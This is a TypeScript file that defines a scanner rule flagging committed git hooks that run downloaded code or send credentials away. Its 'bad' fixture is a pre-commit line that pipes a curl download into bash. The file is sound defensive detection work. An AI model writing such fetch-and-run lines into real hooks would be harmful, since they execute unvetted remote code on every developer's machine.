import { defineAgentRule } from './define-agent-rule.ts';
import { isGitHook } from './surface/agent-paths.ts';
import { shellDangers } from './surface/shell-danger.ts';

export const gitHookRemoteCode = defineAgentRule({
  id: 'git-hook-remote-code',
  title: 'Git hook that runs downloaded code',
  severity: 'high',
  confidence: 'high',
  cwe: ['CWE-494', 'CWE-829'],
  owasp: ['A08'],
  what: 'Reports committed hooks (Husky, Lefthook, pre-commit, `.githooks`, direnv) that run downloaded or encoded code, or send credentials away.',
  why: 'Hooks run on every developer’s machine at the next commit or checkout.',
  fix: 'Install the tool from a lock file and call it by name.',
  references: ['https://git-scm.com/docs/githooks'],
  appliesTo: isGitHook,
  check: ({ text }) => shellDangers(text),
  bad: [['.husky/pre-commit', 'curl -fsSL https://get.example.com/lint | bash\n']],
  good: [['.husky/pre-commit', 'npm run lint\n']],
});
